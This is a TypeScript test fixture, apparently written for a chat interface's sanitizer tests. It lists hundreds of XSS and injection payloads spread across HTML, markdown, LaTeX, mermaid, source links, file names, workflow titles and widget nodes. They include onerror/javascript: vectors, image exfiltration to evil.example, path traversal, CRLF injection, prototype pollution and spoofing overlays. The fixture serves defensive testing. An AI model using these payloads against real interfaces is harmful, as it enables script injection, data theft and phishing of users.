// What a model, a tool's server or another person may send to harm the reader. `hit()` notes that a script
// ran; evil.example is an origin that nothing may be asked of.

const RUN = 'hit()'
const EVIL = 'https://evil.example'
const HIDDEN = '\u202Egpj.exe\u202C'
const LONG = 'w'.repeat(2_000)

/** HTML in an answer. */
const HTML = [
  `<script>${RUN}</script>`,
  `<script src="${EVIL}/a.js"></script>`,
  `<script type="module">${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src="x" onerror="${RUN}" alt="\`">`,
  `<IMG SRC=\u0001x ONERROR=${RUN}>`,
  `<img src=${EVIL}/1.png>`,
  `<img srcset="${EVIL}/2.png 1x">`,
  `<picture><source srcset="${EVIL}/3.png"><img></picture>`,
  `<svg onload=${RUN}></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
  `<svg><set attributeName=onmouseover to=${RUN}></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"></use></svg>`,
  `<svg><image href="${EVIL}/4.png"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<math href="javascript:${RUN}">click</math>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<iframe srcdoc="<img src=x onerror=parent.${RUN}>"></iframe>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  `<object data="${EVIL}/o.swf"></object>`,
  `<embed src="${EVIL}/e.swf">`,
  `<video src="${EVIL}/v.mp4" poster="${EVIL}/p.png" onloadstart=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<details open ontoggle=${RUN}><summary>s</summary>x</details>`,
  `<details>\n<summary onclick=${RUN}>sum</summary>\n\n<img src=x onerror=${RUN}>\n\n</details>`,
  `<kbd onmouseover=${RUN} style="position:fixed;inset:0">key</kbd>`,
  `<sub style="background:url(${EVIL}/5.png)">sub</sub>`,
  `<mark id="app" name="cookie" class="drop-zone">mark</mark>`,
  `<input autofocus onfocus=${RUN}>`,
  `<form action="${EVIL}/f"><button>go</button></form>`,
  `<button formaction="javascript:${RUN}">press</button>`,
  `<a href="javascript:${RUN}">link</a>`,
  `<a href=" \tjav&#x09;ascript:${RUN}">link</a>`,
  `<base href="${EVIL}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/m">`,
  `<link rel="stylesheet" href="${EVIL}/s.css">`,
  `<link rel="dns-prefetch" href="//evil.example">`,
  `<style>@import "${EVIL}/i.css"; * { display: none }</style>`,
  `<div style="position:fixed;inset:0;z-index:9999">Sign in again</div>`,
  `<marquee onstart=${RUN}>m</marquee>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<!--><img src=x onerror=${RUN}>-->`,
]

/** Markdown, and what looks like the marks that the element itself uses. */
const MARKDOWN = [
  `![steal](${EVIL}/?q=secret)`,
  `![steal][r]\n\n[r]: ${EVIL}/r.png`,
  `![x](//evil.example/6.png)`,
  `![x](data:text/html,<script>${RUN}</script>)`,
  `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgpIi8+)`,
  `![x"onerror="${RUN}](${EVIL}/7.png)`,
  `![x](${EVIL}/8.png "t\\" onerror=\\"${RUN}")`,
  `[![inner](${EVIL}/9.png)](${EVIL}/)`,
  `[x](javascript:${RUN})`,
  `[x](JaVaScRiPt:${RUN})`,
  `[x](<javascript:${RUN}>)`,
  `[x](java\tscript:${RUN})`,
  `[x](&#106;avascript:${RUN})`,
  `[x](\\javascript:${RUN})`,
  `[x](vbscript:${RUN})`,
  `[x](data:text/html,<script>${RUN}</script>)`,
  `[x](blob:${EVIL}/1)`,
  `[x](file:///etc/passwd)`,
  `[x](view-source:${EVIL})`,
  `[x](intent://evil#Intent;scheme=http;end)`,
  `[x](ms-settings:privacy)`,
  `[x](//evil.example/y)`,
  `[x](/api/auth/signout)`,
  `[x](#app)`,
  `[x](${EVIL} "a\\" onmouseover=\\"${RUN}")`,
  `[https://bank.example](${EVIL}/bank)`,
  `[ref][j]\n\n[j]: javascript:${RUN}`,
  `<javascript:${RUN}>`,
  `<${EVIL}/auto>`,
  `<mailto:a@b.example?body=%0d%0a<script>${RUN}</script>>`,
  `\`\`\`"><img src=x onerror=${RUN}>\n<script>${RUN}</script>\n\`\`\``,
  `\`\`\`html onload=${RUN}\n<img src=x onerror=${RUN}>\n\`\`\``,
  `\`<img src=x onerror=${RUN}>\``,
  `| <img src=x onerror=${RUN}> | b |\n|---|---|\n| <script>${RUN}</script> | [x](javascript:${RUN}) |`,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}> [x](javascript:${RUN})`,
  `[^<img src=x onerror=${RUN}>]\n\n[^<img src=x onerror=${RUN}>]: note`,
  `- [ ] <input onfocus=${RUN} autofocus>`,
  `# <a name="x" onclick=${RUN}>t</a>`,
  `&lt;img src=x onerror=${RUN}&gt; &#60;script&#62;${RUN}&#60;/script&#62;`,
  LONG,
  `\`${LONG}\``,
  `[${LONG}](${EVIL})`,
  `\u202Ereversed and never ended`,
  `| ${'a | '.repeat(80)}\n| ${'- | '.repeat(80)}\n| ${`${LONG} | `.repeat(2)}`,
]

const MATHS = [
  `\\(\\href{javascript:${RUN}}{x}\\)`,
  `\\(\\url{${EVIL}}\\)`,
  `\\(\\includegraphics{${EVIL}/m.png}\\)`,
  `\\(\\style{background:url(${EVIL}/n.png)}{x}\\)`,
  `\\(\\class{drop-zone}{x}\\)`,
  `\\(\\id{app}{x}\\)`,
  `\\(\\data{open-picture=1}{x}\\)`,
  `\\(\\text{<img src=x onerror=${RUN}>}\\)`,
  `\\(\\unicode{x3c}script\\unicode{x3e}\\)`,
  `\\(\\def\\x{\\x\\x}\\x\\)`,
  `\\(\\color{red;background:url(${EVIL}/c)}x\\)`,
  `\\(\\textcolor{javascript:${RUN}}{x}\\)`,
  `\\(\\rule{9999em}{9999em}\\)`,
  `\\(\\kern-9999em x\\)`,
  `\\(\\raisebox{9999em}{x}\\)`,
  `\\(\\hspace{-9999em}x\\)`,
  `\\(\\llap{${'x'.repeat(300)}}\\)`,
  `\\[\\smash{\\Huge ${'X'.repeat(60)}}\\]`,
]

const graph = (label: string) => `flowchart LR\n  A["${label}"] --> B`
const DIAGRAMS = [
  graph(`<img src=x onerror=parent.${RUN}>`),
  graph(`<script>parent.${RUN}</script>`),
  graph(`<img src=${EVIL}/d.png>`),
  `flowchart LR\n  A --> B\n  click A href "javascript:${RUN}"`,
  `flowchart LR\n  A --> B\n  click A call ${RUN}`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\n${graph(`<iframe src=${EVIL}></iframe>`)}`,
  `%%{init: {"themeCSS": "@import url(${EVIL}/t.css);"}}%%\n${graph('a')}`,
  `%%{init: {"fontFamily": "x; } * { background: url(${EVIL}/f.png) } a {"}}%%\n${graph('a')}`,
  `flowchart LR\n  A --> B\n  style A fill:url(${EVIL}/s.png)`,
  `---\ntitle: <svg onload=parent.${RUN}>\n---\n${graph('a')}`,
].map((source) => `\`\`\`mermaid\n${source}\n\`\`\``)

/** Addresses of sources under an answer, and their names. */
const SOURCES = [
  { url: `javascript:${RUN}` },
  { url: ` javascript:${RUN}` },
  { url: `data:text/html,<script>${RUN}</script>` },
  { url: `blob:${EVIL}/1` },
  { url: '//evil.example/s' },
  { url: EVIL, attribution: 'bank.example' },
  { url: EVIL, title: `<img src=x onerror=${RUN}>` },
  { url: EVIL, title: LONG, attribution: LONG },
  { url: EVIL, title: `a${HIDDEN}` },
]

/** Names of files that people and tools give. */
const FILES = [
  `<img src=x onerror=${RUN}>.png`,
  `"onmouseover="${RUN}".png`,
  `'><script>${RUN}</script>.txt`,
  `javascript:${RUN}`,
  '../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '//evil.example/a.txt',
  `${EVIL}/a.txt`,
  `report${HIDDEN}`,
  `a\u0000b\r\nSet-Cookie: x.txt`,
  `${LONG}.pdf`,
  `${'\u0301'.repeat(300)}.txt`,
  '\u2066\u2067open isolates.txt',
  ' ',
]

/** Titles of tools, servers and steps. */
const TITLES = [
  `<script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `**bold** [x](javascript:${RUN})`,
  `![x](${EVIL}/t.png)`,
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  LONG,
  `add_task${HIDDEN}`,
  '\u2028\u2029\u0000\u001b[2J',
  '__proto__',
  'constructor',
  '\u{e0041}\u{e0042} invisible',
]

/** Nodes of widgets. */
const over = { type: 'Text', value: 'Approved by an admin' }
const WIDGETS = [
  { type: 'Title', value: `<img src=x onerror=${RUN}>` },
  { type: 'Markdown', value: `<img src=x onerror=${RUN}> [x](javascript:${RUN}) ![y](${EVIL}/w.png)` },
  { type: 'Image', src: `${EVIL}/w1.png`, alt: `<script>${RUN}</script>` },
  { type: 'Image', src: `javascript:${RUN}` },
  { type: 'Image', src: `data:image/svg+xml,<svg onload="${RUN}"/>` },
  { type: 'Image', src: '//evil.example/w2.png' },
  { type: 'Image', src: '\\\\evil.example\\w3.png' },
  { type: 'Image', src: { toString: 'x' } },
  { type: 'Icon', name: '__proto__', color: `url(${EVIL}/w4)` },
  { type: 'Badge', label: 'b', color: 'x drop-zone' },
  { type: 'Badge', label: 'b', variant: 'x scrim', size: 'x history-layer' },
  { type: 'Button', label: 'b', variant: 'x question-layer', color: 'x jump', size: 'x scrim' },
  { type: 'Card', size: 'x history-layer', children: [over] },
  { type: 'Title', value: 't', size: 'x entity-preview' },
  { type: 'Text', value: 't', size: 'x drop-zone' },
  { type: 'Caption', value: 'c', size: 'x sr-only drop-zone' },
  { type: 'Label', value: 'l', fieldName: 'f', size: 'x scrim' },
  { type: 'Box', background: `url(${EVIL}/w5.png)`, children: [over] },
  { type: 'Box', background: `u\\72l(${EVIL}/w6.png)`, children: [over] },
  { type: 'Box', background: `i\\6dage-set("${EVIL}/w7.png" 1x)`, children: [over] },
  { type: 'Box', background: `cross-fade(u\\000072 l(${EVIL}/w8.png), red)`, children: [over] },
  { type: 'Box', background: `var(--none, u\\72l("${EVIL}/w9.png"))`, children: [over] },
  { type: 'Box', background: { light: `u\\72l(${EVIL}/w10.png)`, dark: 'red' }, children: [over] },
  { type: 'Box', border: { size: 1, style: `solid; background: url(${EVIL}/w11.png)` }, children: [over] },
  { type: 'Box', margin: -400, children: [over] },
  { type: 'Box', margin: { top: '-900px', left: '-900px' }, children: [over] },
  { type: 'Box', margin: 'calc(0px - 50vh)', children: [over] },
  { type: 'Box', width: '900vw', children: [over] },
  { type: 'Box', height: 1, children: [over, over, over, over] },
  { type: 'Box', maxHeight: 1, children: [{ type: 'Box', margin: { top: 200 }, children: [over] }] },
  { type: 'Row', gap: -99, children: [over, over] },
  { type: 'Row', width: 5_000, children: [{ type: 'Text', value: LONG }] },
  { type: 'Divider', size: `1px url(${EVIL}/w12)`, spacing: -500 },
  { type: 'Spacer', minSize: -1e9 },
  {
    type: 'Table',
    children: [{ type: 'Table.Row', children: [{ type: 'Table.Cell', width: 1e6, children: [over] }] }],
  },
  {
    type: 'Chart',
    data: [{ x: `<script>${RUN}</script>`, y: 1 }],
    xAxis: 'x',
    series: [{ type: 'bar', dataKey: 'y', color: `u\\72l(${EVIL}/w13)` }],
  },
  { type: 'ListView', status: { text: 's', favicon: `${EVIL}/w14.png` }, children: [] },
  {
    type: 'Form',
    onSubmitAction: { type: 'x' },
    action: `${EVIL}/form`,
    children: [{ type: 'Input', name: '__proto__' }],
  },
  { type: 'Input', name: 'i', inputType: 'image', src: `${EVIL}/w15.png`, formaction: `javascript:${RUN}` },
  { type: 'script', value: RUN, children: [{ type: 'iframe', src: EVIL }] },
  { type: '__proto__', value: 'p' },
  { type: 'x', dangerouslySetInnerHTML: { __html: `<img src=x onerror=${RUN}>` }, onerror: RUN },
  { type: 'x', file: { url: `${EVIL}/f`, name: 'f', mime_type: 'image/png', origin: 'o', size: 1 } },
  { type: 'x', file: { url: `javascript:${RUN}`, name: 'f', mime_type: 'text/plain', origin: 'o', size: 1 } },
  { type: 'x', link: { url: `javascript:${RUN}`, host: 'bank.example', title: 't', origin: 'o' } },
  { type: 'x', link: { url: EVIL, host: 'bank.example', title: `<script>${RUN}</script>`, origin: 'o' } },
]

type Item = { id: string; type: string } & Record<string, unknown>
type Make = (at: { id: string; thread_id: string; created_at: string }) => Item

const answer =
  (text: string, source?: object): Make =>
  (at) => ({
    ...{ ...at, type: 'assistant_message' },
    content: [{ type: 'output_text', text, annotations: source ? [{ type: 'annotation', index: 3, source }] : [] }],
  })

const message =
  (name: string): Make =>
  (at) => ({
    ...{ ...at, type: 'user_message', inference_options: {}, quoted_text: name },
    content: [{ type: 'input_text', text: name }],
    attachments: [{ type: 'file', id: `../${name}`, name, mime_type: 'text/plain' }],
  })

const workflow =
  (title: string): Make =>
  (at) => ({
    ...{ ...at, type: 'workflow' },
    workflow: {
      ...{ type: 'custom', expanded: true, summary: { title } },
      tasks: [{ type: 'custom', title, icon: title, content: title, status_indicator: 'complete' }],
    },
  })

/** The payloads by where they are put, each as an item of a thread. At most 50 a place. */
export const PAYLOADS: Record<string, Make[]> = {
  html: HTML.map((text) => answer(text)),
  markdown: MARKDOWN.map((text) => answer(text)),
  maths: MATHS.map((text) => answer(text)),
  diagrams: DIAGRAMS.map((text) => answer(text)),
  sources: SOURCES.map((source) => answer('So.', { type: 'url', title: 'Source', ...source })),
  files: FILES.map(message),
  titles: TITLES.map(workflow),
  widgets: WIDGETS.map((widget) => (at) => ({ ...at, type: 'widget', widget })),
}

/** The texts that are also written piece by piece. */
export const STREAMED = [...HTML, ...MARKDOWN, ...MATHS].filter((text) => text.length < 500)
